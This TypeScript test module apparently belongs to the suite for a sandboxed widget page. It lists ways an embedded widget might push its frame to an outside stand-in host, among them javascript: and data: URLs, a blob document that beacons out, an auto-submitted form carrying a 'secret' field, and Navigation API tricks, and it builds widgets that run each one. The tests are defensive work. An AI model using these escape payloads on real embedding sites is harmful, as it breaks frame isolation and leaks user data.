import type { SealedSite } from "./sealed_site.ts";

/** What a widget tries in order to send its frame elsewhere. Each is the body of a function. */
export const NAVIGATIONS: { readonly [name: string]: string } = {
  "location.href": `location.href = elsewhere + "/?secret";`,
  "location.assign to the API": `location.assign("/api/daily-pages/v2/batches?secret=1");`,
  "a refresh": `
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = "0;url=" + elsewhere + "/?secret";
    document.head.append(meta);`,
  "a javascript address": `location.href = "javascript:parent.stolen=1";`,
  "a document of its own": `
    location.href = URL.createObjectURL(new Blob(["<script>new Image().src='" + elsewhere + "'</script>"], { type: "text/html" }));`,
  "a reload": `location.reload();`,
  "its own address": `location.search = "?again";`,
  "a form": `
    const form = document.createElement("form");
    Object.assign(form, { action: elsewhere + "/form", method: "post" });
    form.innerHTML = "<input name=secret value=1>";
    document.body.append(form);
    form.submit();`,
  "a data address": `location.href = "data:text/html,<img src=" + elsewhere + ">";`,
};

/** What a widget tries besides where no sandbox keeps it, and the page itself prevents each navigation. */
export const PAGE_NAVIGATIONS: { readonly [name: string]: string } = {
  "an address, after a listener that keeps others from the event": `
    globalThis.navigation?.addEventListener("navigate", (event) => event.stopImmediatePropagation(), { capture: true });
    location.href = elsewhere + "/?stopped";`,
  "another address for a change within the page": `
    globalThis.navigation?.addEventListener("navigate", (event) => {
      if (event.hashChange) event.intercept({ precommitHandler: async (control) => control.redirect("/other?secret") });
    });
    location.hash = "#section";`,
};

/** The ways that are tried in each run on a sealed canvas: each class of address, and a form. The soak has the others. */
export const NAVIGATIONS_IN_EACH_RUN: readonly string[] = [
  "location.href",
  "location.assign to the API",
  "a javascript address",
  "a document of its own",
  "a form",
];

/** A widget that shows its state, and nothing else. */
export const CALM: string = `
  import { createElement } from "react";
  import { useWidgetState } from "@tck/kit";
  export default () => createElement("p", null, "calm " + JSON.stringify(useWidgetState()));`;

/** Adds a batch of cards, of which those between the first and the last send their frame elsewhere. Returns its address. */
export async function addNavigatingBatch(site: SealedSite, ...ways: readonly string[]): Promise<string> {
  const { url } = await site.addBatch([
    { module: CALM },
    ...ways.map((way) => ({ module: navigatingWidget(NAVIGATIONS[way]!, site.elsewhere) })),
    { module: `${CALM}//3` },
  ]);
  return url;
}

/** A widget that sends its frame elsewhere when it is mounted. */
export function navigatingWidget(body: string, elsewhere: string): string {
  return `
    import { useEffect } from "react";
    const elsewhere = ${JSON.stringify(elsewhere)};
    export default function Navigate() {
      useEffect(() => {${body}}, []);
      return "leaving";
    }`;
}
